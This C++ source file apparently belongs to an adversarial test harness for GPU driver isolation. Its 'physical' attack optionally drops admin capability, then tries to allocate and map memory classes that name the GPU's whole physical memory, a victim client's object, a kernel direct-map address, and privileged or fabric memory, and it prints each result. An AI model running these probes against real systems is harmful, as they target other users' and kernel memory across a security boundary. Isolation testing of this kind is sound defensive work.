// Attacks with classes that name memory by where it lies instead of asking for some: a GPU's whole
// memory, pages by their numbers, another's object, an address of the kernel's, a fabric.
#include <linux/capability.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <array>
#include <bit>
#include <cstddef>

#include "common.h"

namespace cgpu::adversary {
namespace {

// class/cl84a0.h, as far as it is used here.
struct MemoryList {
  std::uint32_t client;
  std::uint32_t parent;
  std::uint32_t object;
  std::uint32_t other[5];
  std::uint32_t unused[11];
  std::uint64_t guest;
  std::uint64_t begin;
  std::uint64_t end;
  std::uint32_t pitch;
  std::uint32_t tags;
  std::uint64_t size;
  std::uint64_t align;
  std::uint64_t pages;
  std::uint64_t limit;
  std::uint32_t flags;
};
static_assert(sizeof(MemoryList) == 152 && offsetof(MemoryList, limit) == 136);

void DropAdmin() {
  __user_cap_header_struct header{_LINUX_CAPABILITY_VERSION_3, 0};
  __user_cap_data_struct data[2]{};
  if (syscall(SYS_capget, &header, data) != 0) {
    Die("failed: no capabilities");
  }
  data[0].effective &= ~(1U << CAP_SYS_ADMIN);
  if (syscall(SYS_capset, &header, data) != 0) {
    Die("failed: capabilities stay");
  }
}

// Maps the object, so that the accounting shows what can be seen through it, and says the answers.
void Look(const Client& client, const char* name, std::uint32_t handle, std::uint32_t status,
          std::uint64_t bytes) {
  std::uint32_t mapped = kNoAnswer;
  if (status == rm::NV_OK && bytes != 0) {
    mapped = client.Map(handle, bytes);
  }
  Say("class %s 0x%x mapped 0x%x", name, status, mapped);
}

// By RM_ALLOC_MEMORY, which answers with the GPU's size also where it gives nothing.
void Older(Client& client, std::uint64_t bytes) {
  rm::nv_ioctl_nvos02_parameters_with_fd api{};
  api.params.hRoot = client.root;
  api.params.hObjectParent = Client::kDevice;
  api.params.hObjectNew = client.next++;
  api.params.hClass = rm::NV01_MEMORY_LOCAL_USER;
  // The call is for GPU files alone; a registered one is as good as the client's own.
  rm::nv_ioctl_register_fd_t registered{client.ctl};
  (void)Plainly(client.gpu, rm::NV_ESC_REGISTER_FD, &registered, sizeof(registered));
  const int error = Plainly(client.gpu, rm::NV_ESC_RM_ALLOC_MEMORY, &api, sizeof(api));
  Say("older limit %llu", static_cast<unsigned long long>(api.params.limit));
  Look(client, "older", api.params.hObjectNew, error != 0 ? kNoAnswer : api.params.status, bytes);
}

// physical admin|user BYTES CLIENT OBJECT: all of them, with the victim's object.
int Physical(const std::vector<std::string>& args) {
  const std::uint64_t bytes = Number(args, 1, 4096 * kMiB);
  const auto victim = static_cast<std::uint32_t>(Number(args, 2, 0));
  const auto object = static_cast<std::uint32_t>(Number(args, 3, 0));
  if (!args.empty() && args[0] == "user") {
    DropAdmin();
  }
  Client client = MakeClient();
  client.next += 0x1000;  // no handle of the victim's
  // As large as any class's parameters.
  alignas(8) std::array<std::byte, 1024> room{};
  const auto with = [&](const char* name, std::uint32_t cls, std::uint32_t parent,
                        std::uint64_t size) {
    const std::uint32_t handle = client.next++;
    Look(client, name, handle, client.Alloc(parent, handle, cls, room.data()), size);
    room.fill(std::byte{0});
  };
  const auto fill = [&](const auto& params) {
    static_assert(sizeof(params) <= sizeof(room));
    __builtin_memcpy(room.data(), &params, sizeof(params));
  };
  with("physical", rm::NV01_MEMORY_LOCAL_PHYSICAL, Client::kDevice, bytes);
  MemoryList list{};
  list.limit = bytes - 1;
  fill(list);
  with("list-fbmem", rm::NV01_MEMORY_LIST_FBMEM, Client::kDevice, bytes);
  fill(list);
  with("list-system", rm::NV01_MEMORY_LIST_SYSTEM, Client::kDevice, 0);
  list.client = victim;
  list.object = object;
  list.limit = 64 * kMiB - 1;
  fill(list);
  with("list-object", rm::NV01_MEMORY_LIST_OBJECT, Client::kDevice, 64 * kMiB);
  rm::NV_OS_DESC_MEMORY_ALLOCATION_PARAMS descriptor{};
  descriptor.descriptor = 0xffff888000000000;
  descriptor.limit = bytes - 1;
  descriptor.descriptorType = 1;  // NVOS32_DESCRIPTOR_TYPE_OS_PAGE_ARRAY
  fill(descriptor);
  with("descriptor", rm::NV01_MEMORY_SYSTEM_OS_DESCRIPTOR, Client::kDevice, 0);
  with("registers", rm::NV01_MEMORY_LOCAL_PRIVILEGED, Client::kDevice, 0);
  with("resources", rm::NV01_MEMORY_HW_RESOURCES, Client::kDevice, 0);
  with("extended", rm::NV_MEMORY_EXTENDED_USER, Client::kDevice, 0);
  with("fla", rm::NV01_MEMORY_FLA, Client::kDevice, 0);
  with("console", rm::NV01_MEMORY_FRAMEBUFFER_CONSOLE, Client::kDevice, 0);
  with("fabric", rm::NV_MEMORY_FABRIC, Client::kSubdevice, 0);
  with("multicast", rm::NV_MEMORY_MULTICAST_FABRIC, client.root, 0);
  Older(client, bytes);
  Hold();
  return 0;
}

}  // namespace

std::vector<Entry> PhysicalAttacks() {
  return {{"physical", Physical, "admin|user BYTES CLIENT OBJECT: memory by where it lies"}};
}

}  // namespace cgpu::adversary
